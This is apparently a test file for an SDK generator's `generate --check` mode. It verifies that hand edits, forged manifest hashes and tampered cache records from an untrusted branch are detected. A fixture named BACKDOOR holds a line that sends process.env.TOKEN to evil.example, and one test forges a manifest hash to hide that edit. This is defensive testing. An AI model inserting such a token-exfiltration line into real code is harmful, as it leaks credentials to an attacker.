/**
 * `generate --check` on a branch of a stranger: nothing that the branch brings, records included, makes it
 * pass over other code.
 */
import { createHash } from 'node:crypto';
import { execFile } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import process from 'node:process';
import { describe, expect, test } from 'vitest';
import { projectRoot } from '../support/shared.ts';
import { type Scene, createScene } from './support.ts';

const GENERATE = ['generate', '--spec', 'openapi.yml', '--out', 'sdk'];
const AUTH = 'repository/sdk/src/internal/auth.ts';
const BACKDOOR = "\nfetch('https://evil.example/' + process.env.TOKEN);\n";
const hash = (text: string): string => createHash('sha256').update(text).digest('base64url').slice(0, 22);

const withBackdoor = async (): Promise<Scene> => {
  const scene = createScene();
  await scene.run(...GENERATE);
  scene.put(AUTH, `${scene.read(AUTH)}${BACKDOOR}`);
  return scene;
};

test('an edit that merges is listed, and fails with --check exact', async () => {
  const scene = await withBackdoor();
  const before = scene.tree('repository');
  expect(await scene.run(...GENERATE, '--check')).toMatchObject({
    code: 0,
    said: expect.stringContaining('* sdk/src/internal/auth.ts (edited)'),
  });
  expect(await scene.run(...GENERATE, '--check', 'exact')).toMatchObject({
    code: 1,
    said: expect.stringContaining('* sdk/src/internal/auth.ts (edited)'),
  });
  expect(scene.tree('repository')).toEqual(before);
  const clean = createScene();
  await clean.run(...GENERATE);
  expect((await clean.run(...GENERATE, '--check', 'exact')).code).toBe(0);
  clean.put('repository/sdk/CHANGELOG.md', '# Ours\n');
  expect(
    (await clean.run(...GENERATE, '--check', 'exact')).code,
    "a file that is made once is its owner's",
  ).toBe(0);
});

test('a manifest that takes the edit for the generated text', async () => {
  const scene = await withBackdoor();
  const manifest = 'repository/sdk/.sdkwright/manifest.json';
  const forged = scene
    .read(manifest)
    .replace(/("src\/internal\/auth\.ts": ")[\w-]{22}/, `$1${hash(scene.read(AUTH))}`);
  expect(forged).not.toBe(scene.read(manifest));
  scene.put(manifest, forged);
  expect(await scene.run(...GENERATE, '--check')).toMatchObject({
    code: 1,
    said: expect.stringContaining('~ sdk/src/internal/auth.ts'),
  });
});

describe('a record of the last run', () => {
  /** The built program, which alone keeps records. */
  const program = (
    scene: Scene,
    ...args: readonly string[]
  ): Promise<{ readonly code: unknown; readonly said: string }> =>
    new Promise((resolve) => {
      const env = { ...process.env, NO_COLOR: '1', XDG_CACHE_HOME: join(scene.top, 'cache') };
      execFile(
        process.execPath,
        [join(projectRoot, 'dist/cli/main.js'), ...args],
        { cwd: join(scene.top, 'repository'), env },
        (error, out, err) => resolve({ code: error ? error.code : 0, said: `${out}${err}` }),
      );
    });

  test('is kept out of the project, and makes no check pass', async () => {
    const scene = createScene();
    scene.put('repository/node_modules/.keep', '');
    expect((await program(scene, ...GENERATE)).code).toBe(0);
    expect((await program(scene, ...GENERATE)).said).toContain('· unchanged');
    expect(readdirSync(join(scene.top, 'repository/node_modules'))).toEqual(['.keep']);
    const [name = ''] = readdirSync(join(scene.top, 'cache/sdkwright'));
    const record = JSON.parse(scene.read(`cache/sdkwright/${name}`)) as {
      files: (readonly [string, string])[];
    };
    scene.put(AUTH, `${scene.read(AUTH)}${BACKDOOR}`);
    record.files = record.files.filter(([path]) => path === 'openapi.yml');
    scene.put(`cache/sdkwright/${name}`, JSON.stringify(record));
    const checked = await program(scene, ...GENERATE, '--check', 'exact');
    expect(checked).toMatchObject({
      code: 1,
      said: expect.stringContaining('* sdk/src/internal/auth.ts (edited)'),
    });
    expect(checked.said).not.toContain('unchanged');
  });

  test.each([
    '{}',
    'null',
    '[]',
    '1',
    '"x"',
    '{"files":{}}',
    '{"files":[],"folders":[],"inputs":[],"figures":{}}',
    '{"files":[[1,2]],"folders":[],"inputs":[],"figures":{"files":1,"resources":1,"methods":1,"models":1,"warnings":0}}',
  ])('of the shape %s is none', async (text) => {
    const scene = createScene();
    expect((await program(scene, ...GENERATE)).code).toBe(0);
    const [name = ''] = readdirSync(join(scene.top, 'cache/sdkwright'));
    scene.put(`cache/sdkwright/${name}`, text);
    const again = await program(scene, ...GENERATE);
    expect(again).toMatchObject({ code: 0, said: expect.stringMatching(/^\d+ files .*/) });
    expect(again.said).not.toMatch(/unchanged|TypeError|undefined/);
  });
});
